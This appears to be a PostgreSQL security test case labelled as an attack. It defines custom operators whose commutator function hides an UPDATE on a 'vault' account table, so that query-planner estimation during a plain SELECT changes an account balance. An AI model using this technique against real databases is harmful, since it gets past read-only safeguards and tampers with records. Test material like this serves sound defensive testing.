-- Has the planner estimate an own operator by its commutator, which changes the vault.
-- wants: write
-- attack:
CREATE FUNCTION lesser(int, int) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RETURN $1 < $2; END';
CREATE FUNCTION greater(int, int) RETURNS boolean LANGUAGE plpgsql AS $$
  BEGIN UPDATE public.vlt_account SET amount = 4711 WHERE id = 1; RETURN $1 > $2; END $$;
CREATE OPERATOR <<< (LEFTARG = int, RIGHTARG = int, FUNCTION = lesser, COMMUTATOR = >>>, RESTRICT = scalarltsel);
CREATE OPERATOR >>> (LEFTARG = int, RIGHTARG = int, FUNCTION = greater, COMMUTATOR = <<<, RESTRICT = scalargtsel);
CREATE TABLE mine AS SELECT n % 5 AS n FROM generate_series(1, 1000) n;
ANALYZE mine;
SELECT count(*) FROM mine WHERE 3 <<< n;
